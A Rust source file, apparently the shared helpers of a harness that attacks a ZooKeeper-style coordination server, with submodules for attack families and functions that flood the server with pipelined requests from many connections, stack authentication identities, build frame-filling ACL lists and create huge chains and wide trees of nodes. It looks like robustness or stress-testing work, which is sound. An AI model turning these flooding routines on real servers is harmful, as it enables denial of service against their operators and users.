//! The attacks, a file for each family, and their common functions.

pub mod connections;
pub mod election_port;
pub mod operations;
pub mod quorum_port;
pub mod unread;
pub mod work;

use std::thread;
use std::time::{Duration, Instant};

use anyhow::Result;
use ironkeeper_proto::{Acl, OpCode, Perms};

use super::attack::{Strike, is_over, strike};
use super::client::Client;
use super::op::Op;

/// The pause of an attacker before it dials again.
const REDIAL: Duration = Duration::from_millis(10);
/// The number of nodes created by one multi.
const NODES_IN_MULTI: usize = 1_000;

/// Sends these requests repeatedly, pipelined; reconnects after the connection was closed.
pub fn repeat(client: Client, port: u16, ops: Vec<Op>) -> Strike {
    strike(move |until| repeat_until(until, client, port, &ops))
}

fn repeat_until(until: Instant, client: Client, port: u16, ops: &[Op]) {
    let mut client = Some(client);
    while !is_over(until) {
        let is_open = client.as_mut().is_some_and(|client| client.ask_all(ops).is_ok());
        if !is_open {
            thread::sleep(REDIAL);
            client = Client::connect(port).ok();
        }
    }
}

/// Sends these requests repeatedly from several connections at a time.
pub fn repeat_from(clients: Vec<Client>, port: u16, ops: Vec<Op>) -> Strike {
    strike(move |until| {
        let ops = &ops;
        thread::scope(|scope| {
            for client in clients {
                scope.spawn(move || repeat_until(until, client, port, ops));
            }
        });
    })
}

/// Calls `step` repeatedly with an increasing number.
pub fn repeat_with(mut step: impl FnMut(u64) + Send + 'static) -> Strike {
    strike(move |until| {
        let mut turn = 0;
        while !is_over(until) {
            step(turn);
            turn += 1;
        }
    })
}

pub fn clients(port: u16, count: usize) -> Result<Vec<Client>> {
    (0..count).map(|_| Client::connect(port)).collect()
}

/// Connects a client with this many digest identities, or as many as the server accepts.
pub fn client_with_identities(port: u16, count: usize) -> Result<Client> {
    let mut client = Client::connect(port)?;
    for at in 0..count {
        if client.ask(&Op::auth(&format!("user{at}:password"))).is_ok_and(|reply| reply.err == 0) {
            continue;
        }
        // Apache closes the connection of a client whose authentication it rejects.
        return Client::connect(port);
    }
    Ok(client)
}

/// Returns distinct ACL entries of minimal length: 42,000 of them fit into a frame.
pub fn distinct_entries(count: usize) -> Vec<Acl> {
    const DIGITS: &[u8; 36] = b"0123456789abcdefghijklmnopqrstuvwxyz";
    let entry = |at: usize| {
        let digit = |power: u32| DIGITS[at / 36_usize.pow(power) % 36] as char;
        Acl::new(Perms::ALL, "digest", &format!("{}{}{}:a", digit(2), digit(1), digit(0)))
    };
    (0..count).map(entry).collect()
}

/// Creates nodes, `NODES_IN_MULTI` per multi.
pub fn create_all(client: &mut Client, paths: &[String]) -> Result<()> {
    for paths in paths.chunks(NODES_IN_MULTI) {
        let parts: Vec<Op> = paths.iter().map(|path| Op::create(path, b"")).collect();
        client.ask(&Op::many(OpCode::Multi, &parts))?;
    }
    Ok(())
}

/// Returns the paths of a chain, in which each node is the child of the previous one.
pub fn chain(root: &str, levels: usize) -> Vec<String> {
    let mut path = String::from(root);
    let mut paths = vec![path.clone()];
    for _ in 1..levels {
        path.push_str("/a");
        paths.push(path.clone());
    }
    paths
}

/// Returns the paths of a node and of this many children with names of this length.
pub fn wide(root: &str, children: usize, name_len: usize) -> Vec<String> {
    let mut paths = vec![root.to_owned()];
    paths.extend((0..children).map(|at| format!("{root}/{at:0name_len$}")));
    paths
}

#[cfg(test)]
mod tests {
    use super::*;
    use ironkeeper_proto::jute::MAX_BUFFER_DEFAULT;
    use std::collections::HashSet;

    #[test]
    fn the_entries_of_a_frame_are_distinct_and_fit() {
        let entries = distinct_entries(42_000);
        let ids: HashSet<&str> = entries.iter().map(|entry| entry.id.as_str()).collect();
        assert_eq!(ids.len(), entries.len());
        assert!(Op::set_acl("/a", &entries).body.len() + 8 <= MAX_BUFFER_DEFAULT);
    }

    #[test]
    fn trees_have_the_shape_that_was_asked_for() {
        assert_eq!(chain("/c", 3), ["/c", "/c/a", "/c/a/a"]);
        assert_eq!(wide("/w", 2, 3), ["/w", "/w/000", "/w/001"]);
    }
}
